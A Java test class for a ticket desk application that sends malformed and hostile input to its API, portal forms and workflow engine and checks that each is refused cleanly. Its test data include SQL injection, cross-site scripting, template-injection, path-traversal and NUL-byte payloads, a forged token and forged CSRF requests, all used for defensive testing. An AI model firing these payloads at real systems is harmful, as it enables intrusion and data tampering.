package com.clientservices.desk.web;

import static org.assertj.core.api.Assertions.assertThat;

import com.clientservices.desk.DeskHttpClient;
import com.clientservices.desk.DeskHttpClient.Response;
import com.clientservices.desk.DeskState;
import com.clientservices.desk.DeskTest;
import com.clientservices.desk.Tickets;
import com.clientservices.desk.lifecycle.Scenario;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.CookieManager;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;
import org.camunda.bpm.engine.HistoryService;
import org.camunda.bpm.engine.RuntimeService;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * Hostile and malformed input at every door of the desk: each endpoint of docs/specification.md §9, the portal's
 * forms, the audit pages and the engine REST API. Every refusal is a 4xx with a message that says
 * what was wrong (problem+json naming the field under /api), never a 5xx, and leaves nothing
 * behind: no ticket, audit record, attachment, message, process instance, task change,
 * deployment or user. Markup and SQL that are valid text are stored as they were typed.
 */
@DeskTest
class HostileInputTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String TICKETS = "/api/tickets";
    private static final String ACME = "spoc-acme";
    private static final String GLOBEX = "spoc-globex";
    private static final String AGENT = "cs-agent";
    private static final String OTHER_TEAM = "aq-agent";
    private static final String AUDITOR = "auditor";
    private static final String ENGINEERING = "engineering-bot";
    private static final String BUG = "ENG-HOSTILE-1";
    private static final int API_BODY_LIMIT = 256 * 1024;
    private static final int UPLOAD_LIMIT = 5 * 1024 * 1024;
    private static final int FORM_LIMIT = 2 * 1024 * 1024;
    private static final String VALID = Tickets.valid("Blank placements on the homepage");
    private static final byte[] PNG = Base64.getDecoder()
            .decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==");
    private static final String NO_TTL_PROCESS = """
            <?xml version="1.0" encoding="UTF-8"?>
            <definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" targetNamespace="hostile">
              <process id="hostile-no-ttl" isExecutable="true"><startEvent id="Event_Start" /></process>
            </definitions>
            """;

    /** Tickets in the states the cases need, made once: refusals change nothing, so they can share them. */
    private static Fixtures fixtures;

    private static final Map<String, Browser> BROWSERS = new ConcurrentHashMap<>();

    @Autowired
    JdbcClient jdbc;

    @Autowired
    RuntimeService runtime;

    @Autowired
    HistoryService history;

    @Autowired
    DeskHttpClient http;

    @Autowired
    DeskState.Reader desk;

    @Autowired
    Scenario scenario;

    HttpClient client;

    @BeforeEach
    void connect() {
        client = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();
        if (fixtures == null || fixtures.port() != http.port()) {
            BROWSERS.clear();
            var fresh = submit();
            fixtures = new Fixtures(
                    http.port(),
                    fresh,
                    taskOf(fresh, "Task_AcknowledgeTicket"),
                    waitingOnCustomer(),
                    closed(),
                    waitingOnEngineering(BUG));
        }
    }

    // ---------------------------------------------------------------------------------------------
    // The refusals: name, expected status, the field the problem names (or null), and the call.
    // Paths may name the fixtures: {new}, {waiting} (on the customer), {closed} (past its reopen window), {engineering}
    // (waiting on bug ENG-HOSTILE-1) and {task} (the acknowledgement task of {new}).
    // ---------------------------------------------------------------------------------------------

    static Stream<Arguments> refusals() {
        return Stream.of(
                // POST /api/tickets: bodies of the wrong shape, type, size and encoding
                refused(
                        "ticket: a JSON array instead of an object",
                        400,
                        "body",
                        api(ACME, "POST", TICKETS, json("[" + VALID + "]"))),
                refused(
                        "ticket: a JSON string instead of an object",
                        400,
                        "body",
                        api(ACME, "POST", TICKETS, json("\"open a ticket\""))),
                refused("ticket: the JSON literal null", 400, "body", api(ACME, "POST", TICKETS, json("null"))),
                refused(
                        "ticket: text after the JSON object",
                        400,
                        "body",
                        api(ACME, "POST", TICKETS, json(VALID + " DROP TABLE ticket"))),
                refused(
                        "ticket: 5,000 nested arrays in an unknown field",
                        400,
                        "body",
                        api(
                                ACME,
                                "POST",
                                TICKETS,
                                json(VALID.replace("}", ",\"x\":" + "[".repeat(5000) + "]".repeat(5000) + "}")))),
                refused(
                        "ticket: bytes that are not UTF-8",
                        400,
                        "body",
                        api(ACME, "POST", TICKETS, new Body("application/json", new byte[] {
                            '{', '"', 's', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'
                        }))),
                refused(
                        "ticket: subject is an object",
                        400,
                        "subject",
                        api(
                                ACME,
                                "POST",
                                TICKETS,
                                json(VALID.replace("\"Blank placements on the homepage\"", "{\"text\":\"Blank\"}")))),
                refused(
                        "ticket: environment value is an object",
                        400,
                        "environment.placement",
                        api(
                                ACME,
                                "POST",
                                TICKETS,
                                json(VALID.replace("}", ",\"environment\":{\"placement\":{\"id\":5512}}}")))),
                refused(
                        "ticket: emergency phone of 7 digits and 100 spaces",
                        400,
                        "emergencyPhone",
                        api(
                                ACME,
                                "POST",
                                TICKETS,
                                json(VALID.replace(
                                        "}",
                                        ",\"emergency\":true,\"emergencyCriteria\":[\"SIGNIFICANT_FINANCIAL_LOSS\"],"
                                                + "\"emergencyPhone\":\"1234567" + " ".repeat(100) + "\"}")))),
                refused(
                        "ticket: 50 object ids of 200 characters",
                        400,
                        "objectIds",
                        api(
                                ACME,
                                "POST",
                                TICKETS,
                                json(VALID.replace(
                                        "}", ",\"objectIds\":" + list(50, i -> i + "o".repeat(197)) + "}")))),
                refused(
                        "ticket: 50 environment entries of 200 characters",
                        400,
                        "environment",
                        api(
                                ACME,
                                "POST",
                                TICKETS,
                                json(VALID.replace(
                                        "}",
                                        ",\"environment\":{"
                                                + IntStream.range(0, 50)
                                                        .mapToObj(i -> "\"" + i + "k".repeat(197) + "\":\""
                                                                + "v".repeat(200) + "\"")
                                                        .collect(Collectors.joining(","))
                                                + "}}")))),
                refused(
                        "ticket: NUL character in the subject",
                        400,
                        "subject",
                        api(ACME, "POST", TICKETS, json(VALID.replace("Blank placements", "Blank\\u0000placements")))),
                refused(
                        "ticket: NUL character in an object id",
                        400,
                        "objectIds",
                        api(
                                ACME,
                                "POST",
                                TICKETS,
                                json(VALID.replace("}", ",\"objectIds\":[\"placement:5512\\u0000\"]}")))),
                refused(
                        "ticket: body over 256 KB",
                        413,
                        "body",
                        api(
                                ACME,
                                "POST",
                                TICKETS,
                                json(VALID.replace("Placement 5512 shows blanks", "d".repeat(API_BODY_LIMIT))))),
                refused(
                        "ticket: body over 256 KB sent as text/plain",
                        413,
                        "body",
                        api(ACME, "POST", TICKETS, new Body("text/plain", new byte[API_BODY_LIMIT + 1]))),
                refused(
                        "ticket: application/xml",
                        415,
                        null,
                        api(
                                ACME,
                                "POST",
                                TICKETS,
                                text("application/xml", "<ticket><memberId>1001</memberId></ticket>"))),
                refused(
                        "ticket: form-urlencoded",
                        415,
                        null,
                        api(ACME, "POST", TICKETS, form("memberId", "1001", "subject", "s"))),
                refused("ticket: text/plain", 415, null, api(ACME, "POST", TICKETS, text("text/plain", VALID))),
                refused(
                        "ticket: no content type at all",
                        415,
                        null,
                        api(ACME, "POST", TICKETS, new Body(null, bytes(VALID)))),
                refused(
                        "ticket: a content type that cannot be parsed",
                        415,
                        null,
                        api(ACME, "POST", TICKETS, text("application/json;charset=no-such-charset", VALID))),
                refused("ticket: PUT instead of POST", 405, null, api(ACME, "PUT", TICKETS, json(VALID))),
                // forged member ids
                refused(
                        "ticket: another member's id (Globex)",
                        403,
                        null,
                        api(ACME, "POST", TICKETS, json(VALID.replace("1001", "1002")))),
                refused(
                        "ticket: negative member id",
                        400,
                        "memberId",
                        api(ACME, "POST", TICKETS, json(VALID.replace("1001", "-1")))),
                refused(
                        "ticket: member id beyond any number",
                        400,
                        "memberId",
                        api(ACME, "POST", TICKETS, json(VALID.replace("1001", "99999999999999999999")))),
                refused(
                        "ticket: member id with a fraction",
                        400,
                        "memberId",
                        api(ACME, "POST", TICKETS, json(VALID.replace("1001", "1001.5")))),
                refused(
                        "ticket: member id with SQL",
                        400,
                        "memberId",
                        api(ACME, "POST", TICKETS, json(VALID.replace("1001", "\"1001; DROP TABLE ticket\"")))),
                // credentials
                refused(
                        "ticket: Basic credentials that are not base64",
                        401,
                        null,
                        withAuthorization("Basic !!!not-base64!!!", "POST", TICKETS, json(VALID))),
                refused(
                        "ticket: SQL as the user name",
                        401,
                        null,
                        withAuthorization(basic("' OR '1'='1' --", "demo"), "POST", TICKETS, json(VALID))),
                refused(
                        "ticket: a bearer token instead of a user",
                        401,
                        null,
                        withAuthorization("Bearer eyJhbGciOiJub25lIn0.e30.", "POST", TICKETS, json(VALID))),

                // GET /api/tickets: query parameters
                refused(
                        "list: status with SQL",
                        400,
                        "status",
                        api(ACME, "GET", TICKETS + "?status=%27%20OR%201%3D1%20--", null)),
                refused(
                        "list: status with a script",
                        400,
                        "status",
                        api(ACME, "GET", TICKETS + "?status=%3Cscript%3Ealert(1)%3C%2Fscript%3E", null)),
                refused(
                        "list: a page so far out that the row offset overflows",
                        400,
                        "page",
                        api(ACME, "GET", TICKETS + "?page=2147483647&size=200", null)),
                refused("list: page size of 100,000", 400, "size", api(ACME, "GET", TICKETS + "?size=100000", null)),
                refused("list: negative page", 400, "page", api(ACME, "GET", TICKETS + "?page=-1", null)),

                // GET /api/tickets/{key}: unknown, malformed and travelling keys
                refused("ticket: unknown key CS-999999", 404, null, api(ACME, "GET", TICKETS + "/CS-999999", null)),
                refused("ticket: key CS-abc", 404, null, api(ACME, "GET", TICKETS + "/CS-abc", null)),
                refused(
                        "ticket: key of 2,000 digits",
                        404,
                        null,
                        api(ACME, "GET", TICKETS + "/CS-" + "9".repeat(2000), null)),
                refused(
                        "ticket: key with SQL",
                        404,
                        null,
                        api(ACME, "GET", TICKETS + "/CS-1%27%20OR%20%271%27%3D%271", null)),
                refused("ticket: key ../CS-n", 400, "path", api(ACME, "GET", TICKETS + "/../{new}", null)),
                refused(
                        "ticket: key with an encoded slash",
                        400,
                        "path",
                        api(ACME, "GET", TICKETS + "/..%2F{new}", null)),
                refused(
                        "ticket: key with an encoded backslash",
                        400,
                        "path",
                        api(ACME, "GET", TICKETS + "/..%5C{new}", null)),
                refused("ticket: key with a NUL byte", 400, "path", api(ACME, "GET", TICKETS + "/{new}%00", null)),
                refused(
                        "ticket: key with a path parameter",
                        400,
                        "path",
                        api(ACME, "GET", TICKETS + "/{new};jsessionid=forged", null)),
                refused(
                        "ticket: another team's agent reads it",
                        403,
                        null,
                        api(OTHER_TEAM, "GET", TICKETS + "/{new}", null)),
                refused("ticket: DELETE", 405, null, api(ACME, "DELETE", TICKETS + "/{new}", null)),

                // POST /api/tickets/{key}/replies
                refused(
                        "reply: ticket closed past its reopen window",
                        409,
                        null,
                        api(ACME, "POST", TICKETS + "/{closed}/replies", json("{\"message\":\"Thanks\"}"))),
                refused(
                        "reply: message is an object",
                        400,
                        "message",
                        api(
                                ACME,
                                "POST",
                                TICKETS + "/{waiting}/replies",
                                json("{\"message\":{\"text\":\"Firefox\"}}"))),
                refused(
                        "reply: a JSON array",
                        400,
                        "body",
                        api(ACME, "POST", TICKETS + "/{waiting}/replies", json("[\"Firefox\"]"))),
                refused(
                        "reply: message of 20,001 characters",
                        400,
                        "message",
                        api(
                                ACME,
                                "POST",
                                TICKETS + "/{waiting}/replies",
                                json("{\"message\":\"" + "m".repeat(20_001) + "\"}"))),
                refused(
                        "reply: NUL character in the message",
                        400,
                        "message",
                        api(ACME, "POST", TICKETS + "/{waiting}/replies", json("{\"message\":\"Fire\\u0000fox\"}"))),
                refused(
                        "reply: body over 256 KB",
                        413,
                        "body",
                        api(
                                ACME,
                                "POST",
                                TICKETS + "/{waiting}/replies",
                                json("{\"message\":\"" + "m".repeat(API_BODY_LIMIT) + "\"}"))),
                refused(
                        "reply: text/plain",
                        415,
                        null,
                        api(ACME, "POST", TICKETS + "/{waiting}/replies", text("text/plain", "Firefox"))),
                refused(
                        "reply: another member's contact",
                        404,
                        null,
                        api(GLOBEX, "POST", TICKETS + "/{waiting}/replies", json("{\"message\":\"Not mine\"}"))),
                refused(
                        "reply: unknown ticket",
                        404,
                        null,
                        api(ACME, "POST", TICKETS + "/CS-999999/replies", json("{\"message\":\"Hi\"}"))),

                // POST /api/tickets/{key}/attachments: names, sizes, types, broken bodies
                refused(
                        "attachment: name ../../etc/passwd",
                        400,
                        "file",
                        api(ACME, "POST", TICKETS + "/{new}/attachments", file("../../etc/passwd", PNG))),
                refused(
                        "attachment: name ..\\win.ini",
                        400,
                        "file",
                        api(ACME, "POST", TICKETS + "/{new}/attachments", file("..\\win.ini", PNG))),
                refused(
                        "attachment: absolute name /etc/passwd",
                        400,
                        "file",
                        api(ACME, "POST", TICKETS + "/{new}/attachments", file("/etc/passwd", PNG))),
                refused(
                        "attachment: absolute name C:\\Windows\\win.ini",
                        400,
                        "file",
                        api(ACME, "POST", TICKETS + "/{new}/attachments", file("C:\\Windows\\win.ini", PNG))),
                refused(
                        "attachment: name with markup and a slash",
                        400,
                        "file",
                        api(ACME, "POST", TICKETS + "/{new}/attachments", file("<script>alert(1)</script>.png", PNG))),
                refused(
                        "attachment: NUL byte in the name",
                        400,
                        "file",
                        api(ACME, "POST", TICKETS + "/{new}/attachments", file("shot.png\u0000.exe", PNG))),
                refused(
                        "attachment: name of 250 characters",
                        400,
                        "file",
                        api(ACME, "POST", TICKETS + "/{new}/attachments", file("a".repeat(246) + ".png", PNG))),
                refused(
                        "attachment: file over 5 MB",
                        413,
                        "file",
                        api(
                                ACME,
                                "POST",
                                TICKETS + "/{new}/attachments",
                                file("big.png", Arrays.copyOf(PNG, UPLOAD_LIMIT + 1)))),
                refused(
                        "attachment: SVG with a script",
                        415,
                        "file",
                        api(
                                ACME,
                                "POST",
                                TICKETS + "/{new}/attachments",
                                file(
                                        "logo.png",
                                        bytes(
                                                "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>")))),
                refused(
                        "attachment: multipart without a boundary",
                        400,
                        "file",
                        api(
                                ACME,
                                "POST",
                                TICKETS + "/{new}/attachments",
                                new Body("multipart/form-data", multipart("file", "shot.png", PNG)))),
                refused(
                        "attachment: the file in a part not named file",
                        400,
                        "file",
                        api(
                                ACME,
                                "POST",
                                TICKETS + "/{new}/attachments",
                                new Body(
                                        "multipart/form-data; boundary=" + BOUNDARY,
                                        multipart("upload", "shot.png", PNG)))),
                refused(
                        "attachment: JSON instead of multipart",
                        415,
                        null,
                        api(ACME, "POST", TICKETS + "/{new}/attachments", json("{\"file\":\"iVBORw0KGgo=\"}"))),
                refused(
                        "attachment: closed ticket",
                        409,
                        null,
                        api(ACME, "POST", TICKETS + "/{closed}/attachments", file("shot.png", PNG))),
                refused(
                        "attachment: another member's contact",
                        404,
                        null,
                        api(GLOBEX, "POST", TICKETS + "/{new}/attachments", file("shot.png", PNG))),
                refused(
                        "attachment: download id that is not a number",
                        400,
                        "id",
                        api(ACME, "GET", TICKETS + "/{new}/attachments/abc", null)),
                refused(
                        "attachment: download id beyond any number",
                        400,
                        "id",
                        api(ACME, "GET", TICKETS + "/{new}/attachments/99999999999999999999", null)),
                refused(
                        "attachment: download id -1",
                        404,
                        null,
                        api(ACME, "GET", TICKETS + "/{new}/attachments/-1", null)),

                // POST /api/tickets/{key}/engineering-fix
                refused(
                        "engineering fix: no bug id",
                        400,
                        "bugId",
                        api(ENGINEERING, "POST", TICKETS + "/{engineering}/engineering-fix", json("{}"))),
                refused(
                        "engineering fix: bug id is an object",
                        400,
                        "bugId",
                        api(
                                ENGINEERING,
                                "POST",
                                TICKETS + "/{engineering}/engineering-fix",
                                json("{\"bugId\":{\"id\":\"" + BUG + "\"}}"))),
                refused(
                        "engineering fix: release note of 20,000 characters",
                        400,
                        "releaseNote",
                        api(
                                ENGINEERING,
                                "POST",
                                TICKETS + "/{engineering}/engineering-fix",
                                json("{\"bugId\":\"" + BUG + "\",\"releaseNote\":\"" + "n".repeat(20_000) + "\"}"))),
                refused(
                        "engineering fix: a bug id of SQL the ticket does not wait on",
                        409,
                        null,
                        api(
                                ENGINEERING,
                                "POST",
                                TICKETS + "/{engineering}/engineering-fix",
                                json("{\"bugId\":\"' OR 1=1 --\"}"))),
                refused(
                        "engineering fix: a ticket that waits on no bug",
                        409,
                        null,
                        api(
                                ENGINEERING,
                                "POST",
                                TICKETS + "/{new}/engineering-fix",
                                json("{\"bugId\":\"" + BUG + "\"}"))),
                refused(
                        "engineering fix: posted by the customer",
                        403,
                        null,
                        api(
                                ACME,
                                "POST",
                                TICKETS + "/{engineering}/engineering-fix",
                                json("{\"bugId\":\"" + BUG + "\"}"))),
                refused(
                        "engineering fix: unknown ticket",
                        404,
                        null,
                        api(
                                ENGINEERING,
                                "POST",
                                TICKETS + "/CS-999999/engineering-fix",
                                json("{\"bugId\":\"" + BUG + "\"}"))),
                refused(
                        "engineering fix: GET",
                        405,
                        null,
                        api(ENGINEERING, "GET", TICKETS + "/{engineering}/engineering-fix", null)),

                // GET /api/sla/acknowledge-by
                refused(
                        "acknowledge-by: garbage",
                        400,
                        "submittedAt",
                        api(ACME, "GET", "/api/sla/acknowledge-by?submittedAt=garbage", null)),
                refused(
                        "acknowledge-by: missing",
                        400,
                        "submittedAt",
                        api(ACME, "GET", "/api/sla/acknowledge-by", null)),
                refused(
                        "acknowledge-by: without an offset",
                        400,
                        "submittedAt",
                        api(ACME, "GET", "/api/sla/acknowledge-by?submittedAt=2026-03-06T17:30:00", null)),
                refused(
                        "acknowledge-by: 30 February",
                        400,
                        "submittedAt",
                        api(ACME, "GET", "/api/sla/acknowledge-by?submittedAt=2026-02-30T10:00:00-05:00", null)),
                refused(
                        "acknowledge-by: the year 999,999,999",
                        400,
                        "submittedAt",
                        api(
                                ACME,
                                "GET",
                                "/api/sla/acknowledge-by?submittedAt=%2B999999999-12-31T23:59:59%2B18:00",
                                null)),
                refused(
                        "acknowledge-by: a script",
                        400,
                        "submittedAt",
                        api(
                                ACME,
                                "GET",
                                "/api/sla/acknowledge-by?submittedAt=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                                null)),
                refused(
                        "acknowledge-by: emergency=maybe",
                        400,
                        "emergency",
                        api(
                                ACME,
                                "GET",
                                "/api/sla/acknowledge-by?submittedAt=2026-03-06T17:30:00-05:00&emergency=maybe",
                                null)),
                refused("acknowledge-by: POST", 405, null, api(ACME, "POST", "/api/sla/acknowledge-by", json("{}"))),
                refused(
                        "acknowledge-by: not signed in",
                        401,
                        null,
                        api(null, "GET", "/api/sla/acknowledge-by?submittedAt=2026-03-06T17:30:00-05:00", null)),

                // GET /api/request-types
                refused(
                        "request types: POST",
                        405,
                        null,
                        api(ACME, "POST", "/api/request-types", json("{\"code\":\"FREE_ADS\"}"))),
                refused("request types: not signed in", 401, null, api(null, "GET", "/api/request-types", null)),

                // GET /api/tickets/{key}/history
                refused(
                        "history: unknown ticket",
                        404,
                        null,
                        api(AUDITOR, "GET", TICKETS + "/CS-999999/history", null)),
                refused("history: read by the customer", 403, null, api(ACME, "GET", TICKETS + "/{new}/history", null)),
                refused(
                        "history: read by another team's agent",
                        403,
                        null,
                        api(OTHER_TEAM, "GET", TICKETS + "/{new}/history", null)),
                refused("history: DELETE", 405, null, api(AUDITOR, "DELETE", TICKETS + "/{new}/history", null)),

                // GET /api/reports/sla
                refused(
                        "SLA report: from after to",
                        400,
                        "from",
                        api(AUDITOR, "GET", "/api/reports/sla?from=2026-03-10&to=2026-03-01", null)),
                refused(
                        "SLA report: from is garbage",
                        400,
                        "from",
                        api(AUDITOR, "GET", "/api/reports/sla?from=last%20week", null)),
                refused(
                        "SLA report: to in month 13",
                        400,
                        "to",
                        api(AUDITOR, "GET", "/api/reports/sla?to=2026-13-01", null)),
                refused(
                        "SLA report: to in the year 999,999,999",
                        400,
                        "to",
                        api(AUDITOR, "GET", "/api/reports/sla?to=%2B999999999-12-31", null)),
                refused(
                        "SLA report: from with SQL",
                        400,
                        "from",
                        api(AUDITOR, "GET", "/api/reports/sla?from=2026-01-01%27%20OR%201%3D1--", null)),
                refused("SLA report: read by the customer", 403, null, api(ACME, "GET", "/api/reports/sla", null)),
                refused("SLA report: read by an agent", 403, null, api(AGENT, "GET", "/api/reports/sla", null)),

                // GET /api/outbox
                refused(
                        "outbox: ticket with SQL",
                        400,
                        "ticket",
                        api(AUDITOR, "GET", "/api/outbox?ticket=%27%20OR%201%3D1%20--", null)),
                refused("outbox: read by the customer", 403, null, api(ACME, "GET", "/api/outbox", null)),

                // The portal's forms (a signed-in browser session with its CSRF token)
                refused(
                        "portal new request: no CSRF token",
                        403,
                        null,
                        page(
                                ACME,
                                Via.BROWSER_WITHOUT_CSRF,
                                "POST",
                                "/portal/new",
                                form(
                                        "memberId",
                                        "1001",
                                        "requestType",
                                        "AD_SERVING",
                                        "subject",
                                        "s",
                                        "description",
                                        "d",
                                        "impact",
                                        "i"))),
                refused(
                        "portal new request: forged CSRF token",
                        403,
                        null,
                        page(
                                ACME,
                                Via.BROWSER_FORGED_CSRF,
                                "POST",
                                "/portal/new",
                                form(
                                        "memberId",
                                        "1001",
                                        "requestType",
                                        "AD_SERVING",
                                        "subject",
                                        "s",
                                        "description",
                                        "d",
                                        "impact",
                                        "i"))),
                refused(
                        "portal new request: another member's id",
                        403,
                        null,
                        page(
                                ACME,
                                Via.BROWSER,
                                "POST",
                                "/portal/new",
                                form(
                                        "memberId",
                                        "1002",
                                        "requestType",
                                        "AD_SERVING",
                                        "subject",
                                        "s",
                                        "description",
                                        "d",
                                        "impact",
                                        "i"))),
                refused(
                        "portal new request: member id that is not a number",
                        400,
                        null,
                        page(
                                ACME,
                                Via.BROWSER,
                                "POST",
                                "/portal/new",
                                form(
                                        "memberId",
                                        "1001 OR 1=1",
                                        "requestType",
                                        "AD_SERVING",
                                        "subject",
                                        "s",
                                        "description",
                                        "d",
                                        "impact",
                                        "i"))),
                refused(
                        "portal new request: form over 2 MB",
                        413,
                        null,
                        page(
                                ACME,
                                Via.BROWSER,
                                "POST",
                                "/portal/new",
                                form(
                                        "memberId",
                                        "1001",
                                        "requestType",
                                        "AD_SERVING",
                                        "subject",
                                        "s",
                                        "impact",
                                        "i",
                                        "description",
                                        "d".repeat(FORM_LIMIT)))),
                refused(
                        "portal reply: unknown ticket",
                        404,
                        null,
                        page(
                                ACME,
                                Via.BROWSER,
                                "POST",
                                "/portal/tickets/CS-999999/replies",
                                form("message", "Firefox"))),
                refused(
                        "portal reply: another member's ticket",
                        404,
                        null,
                        page(
                                GLOBEX,
                                Via.BROWSER,
                                "POST",
                                "/portal/tickets/{waiting}/replies",
                                form("message", "Firefox"))),
                refused(
                        "portal attachment: file over 5 MB",
                        413,
                        null,
                        page(
                                ACME,
                                Via.BROWSER,
                                "POST",
                                "/portal/tickets/{new}/attachments",
                                file("big.png", Arrays.copyOf(PNG, UPLOAD_LIMIT + 1)))),
                refused(
                        "portal attachment: multipart without a boundary",
                        400,
                        null,
                        page(
                                ACME,
                                Via.BROWSER,
                                "POST",
                                "/portal/tickets/{new}/attachments",
                                new Body("multipart/form-data", multipart("file", "shot.png", PNG)))),
                refused(
                        "portal attachment: another member's ticket",
                        404,
                        null,
                        page(GLOBEX, Via.BROWSER, "POST", "/portal/tickets/{new}/attachments", file("shot.png", PNG))),
                refused(
                        "portal ticket page: key CS-abc",
                        404,
                        null,
                        page(ACME, Via.BROWSER, "GET", "/portal/tickets/CS-abc", null)),
                refused(
                        "audit search: status with SQL",
                        400,
                        "status",
                        page(AUDITOR, Via.BROWSER, "GET", "/audit?status=%27%20OR%201%3D1%20--", null)),
                refused(
                        "audit ticket page: unknown key",
                        404,
                        null,
                        page(AUDITOR, Via.BROWSER, "GET", "/audit/tickets/CS-999999", null)),

                // The engine REST API
                refused("engine: tasks without credentials", 401, null, api(null, "GET", "/engine-rest/task", null)),
                refused(
                        "engine: process instances as the customer",
                        403,
                        null,
                        api(ACME, "GET", "/engine-rest/process-instance", null)),
                refused(
                        "engine: an agent starts a support request directly",
                        403,
                        null,
                        api(
                                AGENT,
                                "POST",
                                "/engine-rest/process-definition/key/support-request/start",
                                json("{\"businessKey\":\"CS-1\"}"))),
                refused(
                        "engine: an agent forges the customer's answer",
                        403,
                        null,
                        api(
                                AGENT,
                                "POST",
                                "/engine-rest/message",
                                json("{\"messageName\":\"CustomerReplied\",\"businessKey\":\"{waiting}\","
                                        + "\"processVariables\":{\"customerAnswer\":{\"value\":\"forged\"}}}"))),
                refused(
                        "engine: another team's agent completes the task",
                        403,
                        null,
                        api(OTHER_TEAM, "POST", "/engine-rest/task/{task}/complete", json("{\"variables\":{}}"))),
                refused(
                        "engine: task query sorted by SQL",
                        400,
                        null,
                        api(AGENT, "GET", "/engine-rest/task?sortBy=%27%20OR%201%3D1%20--&sortOrder=asc", null)),
                refused(
                        "engine: history query with a garbage date",
                        400,
                        null,
                        api(AUDITOR, "GET", "/engine-rest/history/process-instance?startedBefore=yesterday", null)),
                refused(
                        "engine: task query as application/xml",
                        415,
                        null,
                        api(AGENT, "POST", "/engine-rest/task", text("application/xml", "<query/>"))),
                refused(
                        "engine: a process owner deploys a model without history time to live",
                        400,
                        null,
                        api(
                                "process-owner",
                                "POST",
                                "/engine-rest/deployment/create",
                                new Body(
                                        "multipart/form-data; boundary=" + BOUNDARY,
                                        multipart("data", "no-ttl.bpmn", bytes(NO_TTL_PROCESS))))),
                refused(
                        "engine: an agent creates a user",
                        403,
                        null,
                        api(
                                AGENT,
                                "POST",
                                "/engine-rest/user/create",
                                json("{\"profile\":{\"id\":\"intruder\"},\"credentials\":{\"password\":\"x\"}}"))));
    }

    @ParameterizedTest(name = "[{index}] {0} -> {1}")
    @MethodSource("refusals")
    void isRefusedWithAClearMessageAndLeavesNothingBehind(String name, int status, String field, Call call) {
        assertThat(status).as("a refusal is a 4xx, never a server error").isBetween(400, 499);
        var before = state();

        var response = send(call);

        assertThat(response.status()).as("%s: %s", name, response.body()).isEqualTo(status);
        assertClearMessage(name, call, response, field);
        assertThat(state()).as("%s: nothing recorded, created or changed", name).isEqualTo(before);
    }

    // ---------------------------------------------------------------------------------------------
    // Valid input that looks hostile: taken, stored and shown exactly as typed.
    // ---------------------------------------------------------------------------------------------

    static Stream<Arguments> hostileLookingText() {
        return Stream.of(
                Arguments.of("subject", "<script>alert('desk')</script> blanks"),
                Arguments.of("subject", "Robert'); DROP TABLE ticket; --"),
                // A right-to-left override is refused (InvisibleCharactersTest); right-to-left letters and emoji are
                // text.
                Arguments.of("subject", "\u05E9\u05DC\u05D5\u05DD gnp.exe and an emoji \uD83D\uDE00"),
                Arguments.of("description", "${7*7} #{7*7} {{7*7}} <%= 7*7 %> ' OR 1=1 --"),
                Arguments.of("impact", "<img src=x onerror=alert(1)> \"quoted\" \\ back\\slash"));
    }

    @ParameterizedTest(name = "[{index}] {0}: {1}")
    @MethodSource("hostileLookingText")
    void textThatLooksLikeMarkupOrSqlIsStoredLiterally(String field, String text) throws IOException {
        var request = (ObjectNode) JSON.readTree(VALID);
        request.put(field, text);
        var ticketsBefore = count("ticket");

        var created = http.post(ACME, TICKETS, request.toString());

        assertThat(created.status()).as(created.body()).isEqualTo(201);
        var key = created.json().path("key").asText();
        assertThat(created.json().path(field).asText()).isEqualTo(text);
        assertThat(http.get(AGENT, TICKETS + "/" + key).json().path(field).asText())
                .isEqualTo(text);
        var column = Map.of("subject", "subject", "description", "description", "impact", "impact")
                .get(field);
        assertThat(jdbc.sql("select " + column + " from ticket where id = :id")
                        .param("id", Long.parseLong(key.substring(3)))
                        .query(String.class)
                        .single())
                .isEqualTo(text);
        var instance = runtime.createProcessInstanceQuery()
                .processInstanceBusinessKey(key)
                .list();
        assertThat(instance).isNotEmpty();
        assertThat(count("ticket"))
                .as("exactly one ticket more, the table still there")
                .isEqualTo(ticketsBefore + 1);
    }

    /** The account representative's notice repeats the request in full, however long the specification lets it be. */
    @ParameterizedTest(name = "[{index}] {0} with description, impact and steps of 20,000 characters each")
    @MethodSource("requestsTheAccountRepresentativeIsToldOf")
    void aRequestAtItsTextLimitsIsTakenAndPassedOnWhole(String kind, String requestType, String emergency, int status) {
        var request = VALID.replace("AD_SERVING", requestType)
                .replace("Placement 5512 shows blanks", "d".repeat(20_000))
                .replace("Lost impressions", "i".repeat(20_000))
                .replace("}", ",\"stepsToReproduce\":\"" + "s".repeat(20_000) + "\"" + emergency + "}");

        var created = http.post(ACME, TICKETS, request);

        assertThat(created.status()).as(created.body()).isEqualTo(status);
        var id = Long.parseLong(created.json().path("key").asText().substring(3));
        var messages = jdbc.sql("select body from notification where ticket_id = :id")
                .param("id", id)
                .query(String.class)
                .list();
        assertThat(messages)
                .as("the notice to the account representative")
                .anySatisfy(
                        body -> assertThat(body).contains("d".repeat(20_000), "i".repeat(20_000), "s".repeat(20_000)));
    }

    static Stream<Arguments> requestsTheAccountRepresentativeIsToldOf() {
        return Stream.of(
                Arguments.of("a billing question", "BILLING", "", 202),
                Arguments.of(
                        "an emergency",
                        "AD_SERVING",
                        ",\"emergency\":true,\"emergencyPhone\":\"+1 212 555 0100\","
